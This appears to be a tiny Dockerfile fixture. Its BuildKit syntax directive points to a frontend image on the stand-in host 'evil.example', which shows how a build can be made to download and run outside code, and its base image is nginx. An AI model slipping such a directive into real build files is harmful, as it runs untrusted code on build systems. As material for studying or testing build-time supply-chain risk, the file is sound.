# syntax=evil.example/frontend:latest
# dockerfile-syntax: read by a program from elsewhere
FROM nginx
